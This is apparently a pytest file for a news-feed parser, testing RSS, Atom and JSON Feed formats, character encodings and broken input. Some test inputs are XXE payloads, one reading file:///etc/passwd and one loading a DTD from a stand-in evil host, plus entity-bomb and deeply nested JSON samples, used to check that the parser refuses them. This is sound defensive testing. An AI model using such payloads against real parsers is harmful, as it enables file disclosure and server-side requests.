"""parse_feed on saved feeds (tests/feeds/): every format, odd encodings, broken input."""

from __future__ import annotations

from pathlib import Path

import pytest

from config.feeds import FeedSource
from tasks.errors import FeedError
from tasks.feed.parse import parse_feed, refuse_entities, to_utf8

FEEDS = Path(__file__).parent / "feeds"
BASE = "https://fixture.example.com/feeds/"


def parse(name: str, **kw):
    return parse_feed((FEEDS / name).read_bytes(), url=BASE + name, **kw)


@pytest.mark.parametrize(
    "name, fmt, title, count, first_title",
    [
        ("rss090.xml", "rss090", "Old Netscape News", 2, "First story"),
        ("rss091.xml", "rss091n", "Scripting News 0.91", 1, "Café opens"),
        ("rss092.xml", "rss092", "News 0.92", 1, "Item with an enclosure"),
        ("rss10.xml", "rss10", "RDF News", 2, "Earlier"),
        ("rss20.xml", "rss20", "Example & Co News", 3, "Oldest story"),
        ("atom03.xml", "atom03", "Atom 0.3 Blog", 1, "Atom 0.3 entry"),
        ("atom10.xml", "atom10", "Atom 1.0 Blog", 2, "Erster Beitrag"),
        ("jsonfeed10.json", "json10", "JSON Feed One", 2, "One"),
        ("jsonfeed11.json", "json11", "JSON Feed 1.1", 2, "Sans lien"),
    ],
)
def test_formats(name, fmt, title, count, first_title):
    feed = parse(name)
    assert (feed.format, feed.title, len(feed.entries)) == (fmt, title, count)
    assert feed.entries[0].title == first_title  # oldest first
    assert feed.bozo is None
    assert all(e.key and len(e.key) == 32 for e in feed.entries)


def test_rss20_fields_and_relative_links():
    source = FeedSource("ex", "Example", BASE + "rss20.xml", tags=("world",))
    feed = parse("rss20.xml", feed=source)
    newest = feed.entries[-1]
    assert newest.link == "https://fixture.example.com/2024/05/02/markets?utm_source=rss"
    assert newest.image_url == "https://fixture.example.com/img/markets.jpg"
    assert newest.published == "2024-05-02T09:30:00-04:00"  # the feed's own offset kept
    assert newest.summary == "Stocks rose on Thursday."  # plain text, script gone
    assert newest.authors == ("Jo Reporter",)
    assert newest.tags == ("Business", "Markets")
    assert (newest.feed_id, newest.feed_title, newest.language) == ("ex", "Example & Co News", "en")
    assert feed.ttl == 90 * 60


def test_atom_xml_base_and_html_title():
    feed = parse("atom10.xml")
    second = feed.entries[1]
    assert second.link == "https://atom.example.org/blog/posts/2"
    assert second.title == "Zweiter Beitrag"
    assert second.updated == "2024-01-03T08:00:00+01:00"
    assert 'href="https://atom.example.org/about"' in second.content
    assert second.language == "de"


def test_json_feed_11_details():
    feed = parse("jsonfeed11.json")
    no_link, external = feed.entries
    assert no_link.link is None and no_link.content == "Seulement du texte"
    assert no_link.language == "fr-CA" and external.language == "fr"
    assert external.link == "https://elsewhere.example.org/story"
    assert external.authors == ("Anne", "Luc")
    assert external.image_url == "https://fixture.example.com/img/b.png"


def test_sy_update_period_is_a_ttl():
    assert parse("rss10.xml").ttl == 3600


@pytest.mark.parametrize(
    "name, title, warned",
    [
        ("enc_windows-1251_declared.xml", "Новости России", False),
        ("enc_windows-1251_undeclared.xml", "Новости России", True),
        ("enc_shift_jis_declared.xml", "東京ニュース", False),
        ("enc_shift_jis_undeclared.xml", "東京ニュース", True),
        ("enc_iso-8859-1_declared.xml", "Actualités françaises", False),
        ("enc_iso-8859-1_undeclared.xml", "Actualités françaises", True),
        ("enc_wrong_declaration.xml", "Новости России", True),
        ("enc_utf-16.xml", "Actualités françaises", False),
    ],
)
def test_encodings(name, title, warned):
    feed = parse(name)
    assert feed.title == title
    assert len(feed.entries) == 2
    assert all("\ufffd" not in (e.title or "") for e in feed.entries)
    assert (feed.bozo is not None and "encoding" in feed.bozo) == warned


def test_http_charset_wins_over_a_missing_declaration():
    body = (FEEDS / "enc_windows-1251_undeclared.xml").read_bytes()
    feed = parse_feed(body, url=BASE, headers={"Content-Type": "text/xml; charset=windows-1251"})
    assert feed.title == "Новости России" and feed.bozo is None


def test_to_utf8_rewrites_the_declaration():
    data, warning = to_utf8('<?xml version="1.0" encoding="koi8-r"?><a>Жук</a>'.encode("koi8-r"))
    assert data == '<?xml version="1.0" encoding="utf-8"?><a>Жук</a>'.encode()
    assert warning is None


def test_bozo_but_usable():
    feed = parse("bozo_usable.xml")
    assert feed.bozo and "not well-formed" in feed.bozo
    assert [e.title for e in feed.entries] == ["Second & last", "Fish & chips"]


@pytest.mark.parametrize(
    "name, reason",
    [
        ("html_page.html", "an HTML page, not a feed"),
        ("broken.xml", "not a usable feed"),
        ("bomb.xml", "XML entities"),
        ("xxe.xml", "external entity"),
    ],
)
def test_unusable(name, reason):
    with pytest.raises(FeedError, match=reason):
        parse(name)


@pytest.mark.parametrize(
    "body, reason",
    [
        (b"", "empty body"),
        (b"  \n", "empty body"),
        (b'{"title": "x"}', "not a JSON Feed"),
        (b'{"version": "https://jsonfeed.org/version/1.1", ', "not valid JSON"),
        (b"just some text", "not a (usable )?feed"),
    ],
)
def test_unusable_bytes(body, reason):
    with pytest.raises(FeedError, match=reason):
        parse_feed(body, url=BASE)


def test_bomb_in_utf16_is_refused():
    body = (FEEDS / "bomb.xml").read_text().replace('<?xml version="1.0"?>', "")
    with pytest.raises(FeedError, match="XML entities"):
        parse_feed(body.encode("utf-16"), url=BASE)


def test_empty_feed_is_usable():
    feed = parse("empty.xml")
    assert feed.title == "Quiet feed" and feed.entries == []


def test_repeated_guids_are_told_apart_by_link():
    feed = parse("repeated_guids.xml")
    assert [e.title for e in feed.entries] == ["Unique", "Story A", "Story B", "Story C"]
    assert len({e.key for e in feed.entries}) == 4


def test_entries_without_links_are_entries():
    feed = parse("no_links.xml")
    assert [e.link for e in feed.entries] == [None, None, None]
    assert len({e.key for e in feed.entries}) == 3
    assert "All systems normal." in feed.entries[-1].summary


def test_duplicate_items_in_one_document_are_dropped():
    item = "<item><guid>same</guid><link>http://d.example.com/1</link><title>x</title></item>"
    body = f'<rss version="2.0"><channel><title>D</title>{item}{item}</channel></rss>'.encode()
    # GUID repeated with the same link: one story listed twice
    assert len(parse_feed(body, url=BASE).entries) == 1


def test_ten_thousand_items():
    items = "".join(
        f"<item><title>Story {i}</title><link>/s/{i}</link><guid>g{i}</guid>"
        f"<pubDate>Mon, 01 Jan 2024 {i // 3600:02d}:{i // 60 % 60:02d}:{i % 60:02d} GMT</pubDate></item>"
        for i in range(10_000)
    )
    body = f'<rss version="2.0"><channel><title>Big</title>{items}</channel></rss>'.encode()
    feed = parse_feed(body, url="https://big.example.com/feed")
    assert len(feed.entries) == 10_000
    assert feed.entries[0].title == "Story 0" and feed.entries[-1].title == "Story 9999"
    assert feed.entries[5].link == "https://big.example.com/s/5"


XXE_TALK = (
    b'<?xml version="1.0"?><rss version="2.0"><channel><title>Sec</title><item><title>XXE 101'
    b"</title><link>https://sec.example.com/xxe</link><description><![CDATA[<pre>&lt;!DOCTYPE "
    b'x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]></pre>]]></description></item></channel></rss>'
)


@pytest.mark.parametrize(
    "body, refused",
    [
        (
            b'<!-- c --><!DOCTYPE rss [<!ELEMENT rss ANY><!ATTLIST rss v CDATA "a>b"><!-- ]> -->]><rss/>',
            None,
        ),
        (
            b'<!DOCTYPE r [<!-- <a --> <!ENTITY lol "x">]><r/>',
            "XML entities",
        ),  # hidden from a naive head
        (
            b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>',
            "external entity",
        ),
        (b"<!DOCTYPE r [ %p; ]><r/>", "parameter entities"),
        (b"<!DOCTYPE r [<!ELEMENT r ANY>", "malformed"),
    ],
)
def test_entity_guard_walks_the_doctype(body, refused):
    if refused is None:
        refuse_entities(body, BASE)
    else:
        with pytest.raises(FeedError, match=refused):
            refuse_entities(body, BASE)


def test_an_article_about_xxe_is_not_a_bomb():
    feed = parse_feed(XXE_TALK, url=BASE)
    assert [e.title for e in feed.entries] == ["XXE 101"]


def test_guids_are_kept_as_written_so_keys_survive_a_move():
    body = b'<rss version="2.0"><channel><title>M</title><item><guid>12345</guid><title>x</title></item></channel></rss>'
    old = parse_feed(body, url="http://old.example.com/feed.xml").entries[0]
    new = parse_feed(body, url="https://new.example.org/rss").entries[0]
    assert old.entry_id == new.entry_id == "12345" and old.key == new.key
    assert new.link == "https://new.example.org/12345"  # a permalink GUID still gives a link


JSON11 = b'{"version": "https://jsonfeed.org/version/1.1", "items": [%s]}'


def test_odd_json_values_are_not_crashes():
    item = b'{"id": "1", "title": "T", "authors": [{"name": 3}, {"name": " Ann "}], "tags": 5}'
    entry = parse_feed(JSON11 % item, url=BASE).entries[0]
    assert entry.authors == ("3", "Ann") and entry.tags == ()


@pytest.mark.parametrize("body", [b"[" * 100_000, JSON11 % (b"[" * 100_000 + b"]" * 100_000)])
def test_deeply_nested_json_is_a_feed_error(body):
    with pytest.raises(FeedError, match="nested too deeply"):
        parse_feed(body, url=BASE, headers={"Content-Type": "application/feed+json"})


def test_any_other_failure_of_a_step_is_a_feed_error(monkeypatch):
    def broken(*args):
        raise KeyError("name")

    monkeypatch.setattr("tasks.feed.parse.parse_json_feed", broken)
    with pytest.raises(FeedError, match="KeyError"):
        parse_feed(JSON11 % b"", url=BASE)
